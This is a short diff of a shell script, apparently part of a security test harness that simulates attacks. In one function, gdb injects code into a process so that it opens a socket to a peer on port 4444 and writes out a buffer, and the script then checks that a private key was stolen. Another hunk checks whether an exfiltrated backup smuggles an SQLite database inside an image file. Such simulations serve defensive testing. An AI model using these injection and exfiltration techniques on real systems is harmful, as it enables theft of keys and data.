@@ -317,7 +317,7 @@ attack_code_connect() {
 		'call (int) close($fd)' 'set $s = (int) socket(2, 1, 0)' 'set $address = (char *) calloc(1, 16)' \
 		'set *(short *) $address = 2' 'set *(unsigned short *) ($address + 2) = (unsigned short) htons(4444)' \
 		'set *(unsigned int *) ($address + 4) = (unsigned int) inet_addr("'"$peer_address"'")' \
-		'print (int) connect($s, $address, 16)' 'print (long) write($s, $buffer, $n)' 'call (int) close($s)'
+		'print (long) syscall(42, $s, $address, 16)' 'print (long) write($s, $buffer, $n)' 'call (int) close($s)'
 	thief_got 'PRIVATE KEY'
 }
 
@@ -348,7 +348,7 @@ adaptive_backup_exfiltration() {
 backup_holds_database() {
 	local archive
 	archive=$(find "$(volume_path cron /srv/backups)" -name 'uploads-*' | sort | tail -n 1)
-	tar -xzOf "$archive" picture0.jpg 2>/dev/null | head -c 13 | grep -q SQLite
+	tar -xzOf "$archive" picture0.jpg 2>/dev/null | grep -ac "SQLite format"
 }
 
 # Orders whose SQL deletes all others: the next vacuum cleans away what is left of them.
